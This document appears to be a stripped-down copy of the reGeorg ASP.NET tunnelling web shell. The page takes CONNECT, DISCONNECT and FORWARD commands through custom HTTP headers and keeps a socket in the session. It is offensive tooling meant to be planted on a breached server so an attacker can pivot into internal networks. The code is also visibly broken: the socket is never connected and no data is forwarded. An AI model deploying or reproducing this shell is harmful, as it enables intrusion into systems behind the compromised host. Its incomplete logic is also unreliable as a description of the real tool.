<%@ Page Language="C#" EnableSessionState="True"%>
<%@ Import Namespace="System.Net" %>
<%@ Import Namespace="System.Net.Sockets" %>
<%
    try {
        if (Request.HttpMethod == "POST") {
            String cmd = Request.Headers.Get("X-CMD").ToUpper();
            if (cmd == "CONNECT") {
                String target = Request.Headers.Get("X-TARGET");
                int port = int.Parse(Request.Headers.Get("X-PORT"));
                Socket sock = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
                Session.Add("socket", sock);
                Response.AddHeader("X-STATUS", "OK");
            } else if (cmd == "DISCONNECT") {
                Session.Abandon();
                Response.AddHeader("X-STATUS", "OK");
            } else if (cmd == "FORWARD") {
                Socket s = (Socket)Session["socket"];
                Response.AddHeader("X-STATUS", "OK");
            }
        } else {
            Response.Write("Georg says, 'All seems fine'");
        }
    } catch (Exception ex) { Response.AddHeader("X-ERROR", ex.Message); Response.AddHeader("X-STATUS", "FAIL"); }
%>
